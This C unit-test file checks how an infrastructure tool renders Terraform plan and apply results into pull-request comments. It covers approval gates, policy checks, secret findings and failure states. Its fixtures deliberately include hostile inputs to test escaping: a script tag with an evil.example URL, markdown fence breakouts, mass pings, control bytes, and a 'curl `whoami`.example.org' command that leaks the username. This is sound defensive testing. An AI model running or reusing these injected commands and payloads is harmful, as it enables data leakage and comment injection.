/* links: engine store model lib_loop lib_regex lib */
/* What people read, byte for byte (UPDATE_GOLDEN=1 writes tests/golden/ anew), and what must hold
 * of every comment. */
#include "orchestrator/engine/render.h"
#include "orchestrator/lib/strbuf.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <string.h>

#include <cmocka.h>

#define HEAD "3f2a91c000000000000000000000000000000000"

enum { MOST = 120, T0 = 1795000000 };

static const char summary_replace[] =
	"{\"create\":1,\"update\":1,\"replace\":1,\"resources\":["
	"{\"address\":\"aws_subnet.private[0]\",\"action\":\"replace\",\"attributes\":[{\"path\":"
	"\"cidr_block\",\"before\":\"10.0.1.0/24\","
	"\"after\":\"10.0.8.0/24\",\"forces_replace\":true}]},"
	"{\"address\":\"aws_security_group.api\",\"action\":\"update\",\"attributes\":[{\"path\":"
	"\"ingress[0].cidr_blocks\","
	"\"before\":\"10.0.0.0/8\",\"after\":\"0.0.0.0/0\"}]},"
	"{\"address\":\"module.logs.aws_s3_bucket.this\",\"action\":\"create\"}],"
	"\"constructs\":{\"list\":[{\"kind\":\"provisioner\",\"address\":\"aws_instance.bastion\","
	"\"detail\":\"local-exec\"},{\"kind\":\"module\",\"address\":\"module.logs\","
	"\"detail\":\"terraform-aws-modules/s3-bucket/aws\"}]}}";
static const char summary_create[] =
	"{\"create\":2,\"resources\":[{\"address\":\"a.b\",\"action\":\"create\"},"
	"{\"address\":\"a.c\",\"action\":\"create\"}]}";
static const char summary_against[] =
	"{\"create\":2,\"resources\":[{\"address\":\"a.b\",\"action\":\"create\"}],\"policies\":["
	"{\"name\":\"tags\",\"passed\":3},{\"name\":\"cost\",\"passed\":2,\"failed\":3,\"warned\":"
	"1,"
	"\"failures\":[\"a.b costs *too* much @team\",\"a.c too <b>\"],\"warnings\":[\"slow\"]}]}";
static const char summary_hostile[] =
	"{\"create\":1,\"resources\":[{\"address\":\"a.b[\\\"```\\\\n</details> @team #12 <!-- "
	"sluice:plan:1:x -->\\\"]\",\"action\":\"create\"}],"
	"\"constructs\":{\"list\":[{\"kind\":\"provisioner\",\"address\":\"@everyone **run**\","
	"\"detail\":\"<script> https://evil.example www.evil.example</details>\"}]}}";

struct scene {
	struct pull pull;
	struct run run;
	struct job jobs[MOST];
	struct view_job shown[MOST];
	struct gate_vote votes[4];
	struct gate_verdict gate;
	struct view view;
};

static struct job *add_job(struct scene *scene, const char *project, enum job_state state)
{
	size_t i = scene->view.job_count++;
	struct job *job = &scene->jobs[i];

	*job = (struct job){ .op = scene->run.kind == RUN_PLAN ? JOB_PLAN : JOB_APPLY,
		.state = state,
		.project = project,
		.dir = project,
		.workspace = "default",
		.tool = "terraform",
		.position = (int)i + 1,
		.step = "",
		.failure = "",
		.output = "",
		.summary = "",
		.started_ms = T0 * 1000LL - 12000 };
	scene->shown[i] = (struct view_job){ .job = job };
	return job;
}

static struct job *add_plan(struct scene *scene, const char *project, const char *summary)
{
	struct job *job = add_job(scene, project, JOB_DONE);

	job->summary = summary;
	job->has_changes = summary[0] != '\0';
	job->output = job->has_changes ? "Terraform will perform the following actions:\n  ...\n"
				       : "";
	job->outcome = OUTCOME_OK;
	return job;
}

static void fail_job(
	struct job *job, enum job_outcome outcome, const char *step, const char *failure)
{
	job->outcome = outcome;
	job->step = step;
	job->failure = failure;
}

static void set_gate(struct scene *scene, bool open)
{
	scene->votes[0] = (struct gate_vote){ "bob", open,
		open ? "counted" : "approved before this plan" };
	scene->votes[1] = (struct gate_vote){ "alice", false, "author" };
	scene->gate = (struct gate_verdict){ .open = open,
		.missing = open ? ""
				: "one approval of this plan is needed from somebody who did not "
				  "write it",
		.have = open,
		.need = 1,
		.votes = scene->votes,
		.vote_count = 2 };
	scene->view.gate = &scene->gate;
}

static void queued(struct scene *scene)
{
	scene->run.state = RUN_QUEUED;
}

static void preparing(struct scene *scene)
{
	scene->run.state = RUN_PREPARING;
}

static void planning(struct scene *scene)
{
	scene->run.state = RUN_WORKING;
	add_plan(scene, "infra/a", summary_create);
	add_job(scene, "infra/b", JOB_RUNNING);
	add_job(scene, "infra/c", JOB_WAITING);
	add_job(scene, "infra/d", JOB_BLOCKED);
	scene->shown[3].lock_place = 2;
	scene->shown[3].lock_pull = 41;
	scene->shown[3].lock_author = "alice";
	scene->shown[3].lock_since_ms = T0 * 1000LL - 7200000;
}

static void plan_closed(struct scene *scene)
{
	add_plan(scene, "infra/network", summary_replace);
	add_plan(scene, "infra/app", "");
	add_plan(scene, "infra/dns", "");
	set_gate(scene, false);
}

static void plan_open(struct scene *scene)
{
	add_plan(scene, "infra/network", summary_replace);
	add_plan(scene, "infra/app", summary_create);
	set_gate(scene, true);
}

static void plan_one(struct scene *scene)
{
	add_plan(scene, "infra/app", summary_create);
	set_gate(scene, true);
}

static void plan_against(struct scene *scene)
{
	add_plan(scene, "infra/app", summary_against);
	add_plan(scene, "infra/network", summary_replace);
	set_gate(scene, true);
}

/* One set is let pass by its owners, of another one owner is missing. */
static void plan_let_pass(struct scene *scene)
{
	static struct gate_vote votes[] = { { "carol", true, "counted" },
		{ "a_lice", false, "author" } };
	static struct gate_rule passed[] = { { .name = "cost",
		.projects = "infra/app",
		.answer = RULE_HOLDS,
		.have = 1,
		.need = 1,
		.text = "1 of 1 of sec or root: carol",
		.votes = votes,
		.vote_count = 2 } };
	static struct gate_rule missing[] = { { .name = "cost",
		.projects = "infra/data",
		.answer = RULE_FAILS,
		.need = 2,
		.text = "0 of 2 of sec" } };
	static const struct gate_verdict open = {
		.open = true, .missing = "", .rules = passed, .rule_count = 1
	};
	static const struct gate_verdict closed = {
		.missing = "the policy set cost fails", .rules = missing, .rule_count = 1
	};

	add_plan(scene, "infra/app", summary_against);
	add_plan(scene, "infra/data", summary_against);
	scene->shown[0].policies = &open;
	scene->shown[1].policies = &closed;
	set_gate(scene, true);
}

static const char summary_checked[] =
	"{\"create\":1,\"update\":1,\"resources\":[{\"address\":\"aws_security_group.api\","
	"\"action\":"
	"\"update\",\"attributes\":[{\"path\":\"ingress[0].cidr_blocks\",\"before\":\"10.0.0.0/8\","
	"\"after\":\"0.0.0.0/0\"}]}],\"checked\":["
	"{\"name\":\"checkov\",\"tool\":\"checkov "
	"3.2.497\",\"verdict\":\"failed\",\"new\":[0,1,0,1,0],"
	"\"old\":[3,0,0,0,0],\"skipped\":[0,0,0,1,0],\"findings\":["
	"{\"severity\":\"high\",\"age\":\"new\",\"id\":\"CKV_AWS_260\",\"title\":\"ingress from "
	"0.0.0.0/0 to port "
	"80\",\"resource\":\"aws_security_group.api\",\"file\":\"infra/network/sg.tf\","
	"\"line\":14},{\"severity\":\"low\",\"age\":\"new\",\"id\":\"CKV_AWS_23\",\"title\":\"no "
	"description </details> @team\",\"resource\":\"aws_security_group.api\"},"
	"{\"severity\":\"unrated\",\"age\":\"old\",\"id\":\"CKV2_AWS_5\",\"title\":\"not "
	"attached\"},"
	"{\"severity\":\"high\",\"age\":\"skipped\",\"id\":\"CKV_AWS_1\",\"title\":\"open\","
	"\"file\":\"infra/network/a.tf\",\"line\":3}]},"
	"{\"name\":\"trivy\",\"verdict\":\"passed\",\"message\":\"nothing to see\"}]}";
static const char summary_unchecked[] =
	"{\"create\":2,\"resources\":[{\"address\":\"a.b\",\"action\":\"create\"}],\"checked\":["
	"{\"name\":\"checkov\",\"tool\":\"\",\"verdict\":\"error\",\"message\":\"it took longer "
	"than "
	"60 s\"}]}";
static const char summary_passed[] =
	"{\"create\":2,\"resources\":[{\"address\":\"a.b\",\"action\":\"create\"}],\"checked\":["
	"{\"name\":\"checkov\",\"tool\":\"checkov 3.2.497\",\"verdict\":\"passed\"}]}";

static struct plain_secret plain_secrets[] = { { "infra/network/main.tf", "github-token", 7, HEAD,
						       true },
	{ "a`b|c.env", "assigned-secret", 1, HEAD, false } };
static struct new_skip new_skips[] = { { "infra/network/a.tf", 3, "CKV_AWS_1" } };
static const struct prepared brought = { .secrets = plain_secrets,
	.secret_count = 2,
	.secrets_left_out = 3,
	.skips = new_skips,
	.skip_count = 1 };

static void plan_checked(struct scene *scene)
{
	static struct gate_rule rows[] = {
		{ .environment = "production",
			.name = "check checkov",
			.projects = "infra/network",
			.answer = RULE_FAILS,
			.text = "1 high, 1 low that this change brings: fix "
				"and push" },
		{ .environment = "production",
			.name = "plaintext secrets",
			.projects = "infra/network, infra/app",
			.answer = RULE_FAILS,
			.text = "infra/network/main.tf:7 holds one (github-token), and 4 more: "
				"take "
				"it out of every commit, and make the value worthless" }
	};

	add_plan(scene, "infra/network", summary_checked);
	add_plan(scene, "infra/data", summary_unchecked);
	add_plan(scene, "infra/app", summary_passed);
	add_plan(scene, "infra/dns", "");
	set_gate(scene, false);
	scene->gate.missing = "production does not hold: check checkov (1 high, 1 low that this "
			      "change brings: fix and push)";
	scene->gate.rules = rows;
	scene->gate.rule_count = countof(rows);
	scene->gate.prepared = &brought;
}

static void plan_failed(struct scene *scene)
{
	scene->run.state = RUN_FAILED;
	fail_job(add_job(scene, "infra/data", JOB_FAILED), OUTCOME_TOOL_FAILED, "init",
		"Error: Unsupported argument\n  on main.tf line 3, in resource \"terraform_data\" "
		"\"x\":\n   3:   inptu = \"v1\"\n");
	add_plan(scene, "infra/network", summary_replace);
	set_gate(scene, true);
}

static void plan_timed_out(struct scene *scene)
{
	scene->run.state = RUN_FAILED;
	fail_job(add_job(scene, "a", JOB_FAILED), OUTCOME_TIMED_OUT, "plan",
		"plan took longer than 1 h and was stopped");
	fail_job(add_job(scene, "b", JOB_FAILED), OUTCOME_OUTPUT_CAP, "plan",
		"plan printed more than 64 MiB");
	fail_job(add_job(scene, "c", JOB_FAILED), OUTCOME_SIGNALLED, "plan",
		"terraform was killed by signal 9");
	fail_job(add_job(scene, "d", JOB_FAILED), OUTCOME_SETUP_FAILED, "sandbox",
		"the namespace cannot be made");
}

static void plan_none(struct scene *scene)
{
	set_gate(scene, false);
}

static void plan_unchanged(struct scene *scene)
{
	add_plan(scene, "a", "");
	set_gate(scene, false);
}

static void plan_conflict(struct scene *scene)
{
	scene->run.state = RUN_FAILED;
	scene->run.failure = "head and base cannot be merged: infra/main.tf";
}

static void plan_superseded(struct scene *scene)
{
	scene->run.state = RUN_SUPERSEDED;
	scene->view.superseded_by = "7be1d02000000000000000000000000000000000";
	add_plan(scene, "a", summary_create);
}

static void plan_cancelled(struct scene *scene)
{
	scene->run.state = RUN_CANCELLED;
	add_job(scene, "a", JOB_CANCELLED);
}

static void plan_applied(struct scene *scene)
{
	add_plan(scene, "a", summary_create)->is_applied = true;
	set_gate(scene, true);
}

static void plan_unguarded(struct scene *scene)
{
	add_plan(scene, "a", summary_create);
	set_gate(scene, false);
	scene->view.is_unguarded = true;
}

static void plan_workspace(struct scene *scene)
{
	struct job *job = add_plan(scene, "network", summary_create);

	job->dir = "infra/network";
	job->workspace = "blue|green";
	set_gate(scene, false);
}

static void plan_hostile(struct scene *scene)
{
	scene->pull.base_ref = "main` @team <!-- x --> | #1";
	add_plan(scene, "a|b</summary>@all/`x`", summary_hostile)->output =
		"```\n</details>\n<!-- sluice:plan:1:x -->\n````\n@everyone\x1b[31m \xe2\x80\xae "
		"\xff\n";
	fail_job(add_job(scene, "x", JOB_FAILED), OUTCOME_TOOL_FAILED, "plan",
		"Error: ```\n### sluice · plan, all ready\n");
	scene->run.state = RUN_FAILED;
	set_gate(scene, false);
	scene->votes[0].person = "b*o*b<@x";
}

static void plan_many(struct scene *scene)
{
	static char names[100][32];
	static char output[100][400];

	for (int i = 0; i < 100; i++) {
		snprintf(names[i], sizeof(names[i]), "services/s%02d", i);
		memset(output[i], 'x', sizeof(output[i]) - 1);
		for (size_t k = 79; k < sizeof(output[i]) - 1; k += 80)
			output[i][k] = '\n';
		add_plan(scene, names[i], summary_replace)->output = output[i];
	}
	set_gate(scene, true);
}

static void plan_long_output(struct scene *scene)
{
	static char output[48000];

	memset(output, 'y', sizeof(output) - 1);
	for (size_t k = 99; k < sizeof(output) - 1; k += 100)
		output[k] = '\n';
	add_plan(scene, "a", summary_create)->output = output;
	set_gate(scene, true);
}

static void plan_plain_host(struct scene *scene)
{
	plan_failed(scene);
	scene->view.has_folds = false;
}

static void plan_ordered(struct scene *scene)
{
	scene->run.state = RUN_WORKING;
	fail_job(add_job(scene, "infra/network", JOB_FAILED), OUTCOME_TOOL_FAILED, "plan",
		"Error: no such zone\n");
	fail_job(add_job(scene, "infra/app", JOB_SKIPPED), OUTCOME_NONE, "",
		"infra/network did not succeed, and this project depends on it");
	add_job(scene, "infra/dns", JOB_RUNNING);
	add_job(scene, "infra/mail", JOB_HELD);
}

static void plan_configured(struct scene *scene)
{
	static struct told_change changes[] = {
		{ "infra/app", "added", "", "infra/app, workspace default" },
		{ "infra/network", "environment", "production", "" },
		{ "infra/network", "autoplan.when_modified", "*.tf", "*.tf, ../mo|dules/**" },
	};
	static struct told_command commands[] = {
		{ "deploy", "plan", "curl `whoami`.example.org @alice\n<!-- x -->",
			"sluice.yaml:7:5" },
	};
	static const char *notes[] = {
		"sluice.yaml:9:3: environments.production.approvals: only the base branch can "
		"loosen it"
	};

	scene->run.state = RUN_FAILED;
	add_plan(scene, "infra/network", summary_create);
	fail_job(add_job(scene, "infra/app", JOB_SKIPPED), OUTCOME_NONE, "",
		"its workflow \"deploy\" runs commands that are new in this pull request; they "
		"wait for a person");
	scene->view.told = (struct told){ .file = "sluice.yaml",
		.changes = changes,
		.change_count = countof(changes),
		.commands = commands,
		.command_count = countof(commands),
		.commands_hash = "hash",
		.released_by = "",
		.notes = notes,
		.note_count = countof(notes),
		.left_out = 3 };
	set_gate(scene, false);
}

static void plan_released(struct scene *scene)
{
	plan_configured(scene);
	scene->view.told.is_released = true;
	scene->view.told.released_by = "bob";
	scene->view.has_folds = false;
}

static void as_apply(struct scene *scene, enum run_state state)
{
	scene->run.kind = RUN_APPLY;
	scene->run.state = state;
	scene->run.actor = "alice";
	scene->view.approvers = "bob";
	scene->view.marker = "sluice:apply:9";
}

static void apply_running(struct scene *scene)
{
	as_apply(scene, RUN_WORKING);
	add_job(scene, "a", JOB_RUNNING);
	add_job(scene, "b", JOB_DONE);
}

static void apply_done(struct scene *scene)
{
	as_apply(scene, RUN_DONE);
	add_job(scene, "a", JOB_DONE)->output =
		"Apply complete! Resources: 1 added, 0 changed, 0 destroyed.\n";
	add_job(scene, "b", JOB_DONE);
}

static void apply_failed(struct scene *scene)
{
	as_apply(scene, RUN_FAILED);
	add_job(scene, "a", JOB_DONE);
	fail_job(add_job(scene, "b", JOB_FAILED), OUTCOME_TOOL_FAILED, "apply",
		"Error: creating: quota exceeded\n");
}

static void apply_interrupted(struct scene *scene)
{
	as_apply(scene, RUN_INTERRUPTED);
	fail_job(add_job(scene, "infra/data", JOB_INTERRUPTED), OUTCOME_UNKNOWN, "apply",
		"its supervisor ended without leaving a result");
}

static void apply_refused(struct scene *scene)
{
	as_apply(scene, RUN_REFUSED);
	fail_job(add_job(scene, "a", JOB_REFUSED), OUTCOME_SETUP_FAILED, "",
		"a newer push or plan came");
}

static void apply_plan_lost(struct scene *scene)
{
	as_apply(scene, RUN_FAILED);
	fail_job(add_job(scene, "a", JOB_FAILED), OUTCOME_PLAN_LOST, "apply",
		"the saved plan is gone; nothing was run");
}

static void apply_cancelled(struct scene *scene)
{
	as_apply(scene, RUN_CANCELLED);
	add_job(scene, "a", JOB_CANCELLED);
}

static const struct {
	const char *name;
	void (*set)(struct scene *scene);
} scenes[] = {
	{ "plan-queued", queued },
	{ "plan-preparing", preparing },
	{ "plan-planning", planning },
	{ "plan-gate-closed", plan_closed },
	{ "plan-gate-open", plan_open },
	{ "plan-one-project", plan_one },
	{ "plan-against-policies", plan_against },
	{ "plan-let-pass", plan_let_pass },
	{ "plan-checked", plan_checked },
	{ "plan-unguarded", plan_unguarded },
	{ "plan-failed", plan_failed },
	{ "plan-failures", plan_timed_out },
	{ "plan-nothing-touched", plan_none },
	{ "plan-unchanged", plan_unchanged },
	{ "plan-conflict", plan_conflict },
	{ "plan-superseded", plan_superseded },
	{ "plan-cancelled", plan_cancelled },
	{ "plan-applied", plan_applied },
	{ "plan-workspace", plan_workspace },
	{ "plan-hostile", plan_hostile },
	{ "plan-hundred-projects", plan_many },
	{ "plan-long-output", plan_long_output },
	{ "plan-plain-host", plan_plain_host },
	{ "plan-ordered", plan_ordered },
	{ "plan-configured", plan_configured },
	{ "plan-released", plan_released },
	{ "apply-running", apply_running },
	{ "apply-done", apply_done },
	{ "apply-failed", apply_failed },
	{ "apply-interrupted", apply_interrupted },
	{ "apply-refused", apply_refused },
	{ "apply-plan-lost", apply_plan_lost },
	{ "apply-cancelled", apply_cancelled },
};

static void make_scene(struct scene *scene, size_t which)
{
	*scene = (struct scene){
		.pull = { .number = 7,
			.author = "alice",
			.title = "Change",
			.head = HEAD,
			.base_ref = "main",
			.repo = "team/infra" },
		.run = { .kind = RUN_PLAN,
			.state = RUN_DONE,
			.head = HEAD,
			.actor = "sluice",
			.failure = "",
			.created_ms = T0 * 1000LL - 48000,
			.ended_ms = T0 * 1000LL },
	};
	scene->view = (struct view){ .pull = &scene->pull,
		.run = &scene->run,
		.jobs = scene->shown,
		.now_ms = T0 * 1000LL,
		.limit_bytes = 65536,
		.has_folds = true,
		.command_word = "sluice",
		.marker = "sluice:plan:7:3f2a91c00000",
		.approvers = "" };
	scenes[which].set(scene);
}

static size_t count_of(const char *text, const char *word)
{
	size_t count = 0;

	for (; (text = strstr(text, word)) != NULL; text += strlen(word))
		count++;
	return count;
}

/* Outside fences: fences and folds are balanced, nothing pings, the mark stands in the first line
 * only. */
static void check_part(const char *name, const char *part, size_t limit)
{
	_cleanup_strbuf_ struct strbuf outside = STRBUF(1 << 20);
	char fence[64] = "";
	bool first = true;

	assert_true(strlen(part) < limit);
	assert_memory_equal(part, "<!-- sluice:", 12);
	for (const char *line = part; *line != '\0';) {
		size_t length = strcspn(line, "\n"), ticks = strspn(line, "`");

		if (fence[0] != '\0') {
			if (ticks >= strlen(fence) && ticks == length)
				fence[0] = '\0';
		} else if (ticks >= 3) {
			snprintf(fence, sizeof(fence), "%.*s", (int)ticks, line);
		} else if (!first) {
			strbuf_append(&outside, line, length + 1);
		}
		first = false;
		line += length + (line[length] == '\n');
	}
	if (fence[0] != '\0')
		fail_msg("%s: a fence stays open", name);
	if (strstr(strbuf_text(&outside), "<!--") != NULL)
		fail_msg("%s: a mark stands outside the first line", name);
	if (strstr(strbuf_text(&outside), "<script") != NULL)
		fail_msg("%s: HTML came through", name);
	if (count_of(strbuf_text(&outside), "<details") !=
		count_of(strbuf_text(&outside), "</details>"))
		fail_msg("%s: folds are not balanced", name);
	if (count_of(strbuf_text(&outside), "@everyone") +
			count_of(strbuf_text(&outside), "@team") >
		count_of(strbuf_text(&outside), "`main` @team"))
		if (strstr(strbuf_text(&outside), "@everyone") != NULL)
			fail_msg("%s: somebody is pinged", name);
}

static void test_golden(_unused_ void **state)
{
	static struct scene scene;

	for (size_t i = 0; i < countof(scenes); i++) {
		_cleanup_(arena_release) struct arena arena = { 0 };
		_cleanup_strbuf_ struct strbuf whole = STRBUF(4 << 20);
		struct rendered rendered = { 0 };
		char path[100], *golden = mem_alloc(4 << 20);
		FILE *file;

		make_scene(&scene, i);
		render_run(&scene.view, &arena, &rendered);
		strbuf_printf(&whole, "status: %s\n", render_status(&scene.view, 140, &arena));
		for (size_t p = 0; p < rendered.part_count; p++) {
			check_part(scenes[i].name, rendered.parts[p], scene.view.limit_bytes);
			strbuf_printf(&whole, "==== part %zu ====\n%s", p + 1, rendered.parts[p]);
		}
		snprintf(path, sizeof(path), "tests/golden/%s.md", scenes[i].name);
		if (getenv("UPDATE_GOLDEN") != NULL) {
			file = fopen(path, "w");
			assert_non_null(file);
			fputs(strbuf_text(&whole), file);
			fclose(file);
		}
		file = fopen(path, "r");
		assert_non_null(file);
		golden[fread(golden, 1, (4 << 20) - 1, file)] = '\0';
		fclose(file);
		if (!str_equal(golden, strbuf_text(&whole)))
			fail_msg("%s differs; read it, and when it is better: UPDATE_GOLDEN=1",
				path);
		free(golden);
	}
}

static void test_small_limits_hold(_unused_ void **state)
{
	static const size_t limits[] = { 3000, 5000, 10000, 30000 };
	static struct scene scene;

	for (size_t i = 0; i < countof(scenes); i++) {
		for (size_t k = 0; k < countof(limits); k++) {
			_cleanup_(arena_release) struct arena arena = { 0 };
			struct rendered rendered = { 0 };

			make_scene(&scene, i);
			scene.view.limit_bytes = limits[k];
			render_run(&scene.view, &arena, &rendered);
			for (size_t p = 0; p < rendered.part_count; p++)
				check_part(scenes[i].name, rendered.parts[p], limits[k]);
		}
	}
}

static void test_inline_escapes(_unused_ void **state)
{
	static const struct {
		const char *text, *shown;
	} rows[] = {
		{ "plain words", "plain words" },
		{ "<b>", "&lt;b&gt;" },
		{ "a & b", "a &amp; b" },
		{ "*x* _y_", "\\*x\\* \\_y\\_" },
		{ "`x`", "\\`x\\`" },
		{ "a|b", "a\\|b" },
		{ "@bob", "@\xe2\x80\x8b"
			  "bob" },
		{ "#12", "#\xe2\x80\x8b"
			 "12" },
		{ "GH-12", "G\xe2\x80\x8bH-12" },
		{ "https://x", "https:\xe2\x80\x8b//x" },
		{ "www.x.y", "w\xe2\x80\x8bww.x.y" },
		{ "deadbeef1", "dea\xe2\x80\x8b"
			       "dbeef1" },
		{ "two\nlines", "two lines" },
		{ "bell\a", "bell\xef\xbf\xbd" },
		{ "\xff", "\xef\xbf\xbd" },
		{ "\xe2\x80\xae", "\xef\xbf\xbd" },
		{ "\xc3\xa4", "\xc3\xa4" },
	};

	for (size_t i = 0; i < countof(rows); i++) {
		_cleanup_strbuf_ struct strbuf out = STRBUF(1000);

		render_inline(&out, rows[i].text);
		assert_string_equal(strbuf_text(&out), rows[i].shown);
	}
}

static void test_fences_and_code(_unused_ void **state)
{
	_cleanup_strbuf_ struct strbuf out = STRBUF(1000);

	render_fence(&out, "", "a\n```\nb", 7);
	assert_string_equal(strbuf_text(&out), "````\na\n```\nb\n````\n");
	strbuf_clear(&out);
	render_code(&out, "a`b``c");
	assert_string_equal(strbuf_text(&out), "```a`b``c```");
	strbuf_clear(&out);
	render_code(&out, "`x");
	assert_string_equal(strbuf_text(&out), "`` `x ``");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_golden),
		cmocka_unit_test(test_small_limits_hold),
		cmocka_unit_test(test_inline_escapes),
		cmocka_unit_test(test_fences_and_code),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
